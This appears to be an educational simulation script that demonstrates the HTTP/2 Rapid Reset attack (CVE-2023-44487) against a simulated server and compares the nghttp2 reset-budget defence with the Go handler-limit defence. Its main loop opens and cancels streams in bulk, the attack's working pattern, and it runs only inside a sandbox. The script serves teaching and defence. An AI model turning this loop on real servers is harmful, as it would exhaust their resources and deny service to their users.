import { HTTP2_ERROR_CODES, HTTP2_FLAGS, connectRawHttp2, createServer, createSimulation, http } from 'roundtrip/wire';
import { defineOptions } from 'roundtrip/playground';

// Rapid reset (CVE-2023-44487): open a stream, cancel it in the same breath, repeat. A reset stream no
// longer counts against SETTINGS_MAX_CONCURRENT_STREAMS, so that limit never bites, yet the server has
// already started on every request. Two defences: count the resets (nghttp2), or keep counting a handler
// against the stream limit until it has finished (Go). Switch between them, or turn both off.
const { defence, streams } = defineOptions({
  defence: {
    type: 'select',
    choices: ['reset budget', 'handler limit', 'none'],
    default: 'reset budget',
    label: 'Defence',
    doc: 'reset budget: skip requests reset in the same read, and a burst of 50 resets refilled at 33 per second (nghttp2: 1000 and 33). handler limit: at most 20 handlers at once, the stream limit, reset or not; more wait, and past 80 waiting the connection ends (Go)',
  },
  streams: { type: 'number', default: 200, min: 10, max: 500, integer: true, label: 'Streams reset', doc: 'Streams the attacker opens and resets' },
});

let started = 0;
const server = createServer({
  routes: [
    http.get(
      '/search',
      () => {
        started++; // the work a real server would do: a database query, a proxied request...
        return Response.json({ results: [] });
      },
      { latency: 500 }, // ...which takes half a second, whether or not anyone still waits for it
    ),
  ],
  http2Limits: { resetBurst: defence === 'reset budget' ? 50 : Number.POSITIVE_INFINITY, maxConcurrentStreams: 20 },
  handleResetStreams: defence !== 'reset budget',
  limitRunningHandlers: defence === 'handler limit',
});
const sim = createSimulation({ server, httpVersion: '2' });
const attacker = connectRawHttp2(sim);
await sim.advance(300); // TCP handshake, then the prefaces and SETTINGS cross (100 ms round trips)

for (let i = 0; i < streams; i++) {
  const streamId = 1 + 2 * i;
  const headerBlockFragment = attacker.fieldBlock(attacker.requestFields('/search'));
  // HEADERS and RST_STREAM(CANCEL) in one write: the request is withdrawn before any answer could leave.
  attacker.send(
    { type: 'HEADERS', streamId, flags: HTTP2_FLAGS.END_HEADERS | HTTP2_FLAGS.END_STREAM, headerBlockFragment },
    { type: 'RST_STREAM', streamId, flags: 0, errorCode: HTTP2_ERROR_CODES.CANCEL },
  );
}
await sim.advance(1000);

console.log(`attacker: ${streams} requests opened and reset, ${attacker.sent.bytes} bytes sent`);
console.log(`server: the handler started ${started} times for requests nobody waits for`);
const goaway = attacker.goaway;
if (goaway) console.log(`GOAWAY ${attacker.goawayError} (last stream ${goaway.lastStreamId}): ${new TextDecoder().decode(goaway.debugData)}`);
else console.log('no GOAWAY: the connection is still open for the next thousand');
